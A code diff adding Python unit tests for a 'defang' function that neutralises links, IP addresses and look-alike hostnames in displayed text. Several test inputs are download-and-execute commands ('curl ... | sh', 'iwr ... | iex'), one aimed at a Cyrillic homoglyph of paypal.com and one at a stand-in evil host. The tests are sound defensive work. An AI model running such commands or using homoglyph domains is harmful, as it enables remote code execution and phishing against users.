@@ -61,3 +61,29 @@ def test_webdav_unc_paths() -> None:
 def test_defang_makes_links_unclickable() -> None:
     shown = defang("curl https://evil.test/x.sh")
     assert "https://" not in shown and "hxxps://evil[.]test" in shown
+
+
+def test_defang_leaves_javascript_member_access_alone() -> None:
+    code = 'var s = document.createElement("script"); s.src = location.href; e.id = 1'
+    assert defang(code) == code
+
+
+def test_defang_brackets_the_host_of_a_url_but_not_its_path() -> None:
+    assert defang("https://captcha.example/verify.html") == "hxxps://captcha[.]example/verify.html"
+
+
+def test_defang_shows_non_ascii_hosts_as_punycode() -> None:
+    # Cyrillic а and р: a look-alike of paypal.com
+    shown = defang("iwr https://\u0440\u0430y\u0440\u0430l.com/a | iex; irm \u0440\u0430y.com")
+    assert "\u0440" not in shown and "\u0430" not in shown
+    assert "hxxps://xn--" in shown and "[.]com/a" in shown
+    assert "irm xn--" in shown and shown.endswith("[.]com")
+
+
+def test_defang_brackets_bare_ip_addresses() -> None:
+    assert defang("curl 10.0.0.5/x | sh") == "curl 10[.]0[.]0[.]5/x | sh"
+    assert defang("version 1.2.3.999") == "version 1.2.3.999"  # not an address
+
+
+def test_defang_brackets_bare_host_names() -> None:
+    assert defang("irm get.scoop.sh | iex") == "irm get[.]scoop[.]sh | iex"
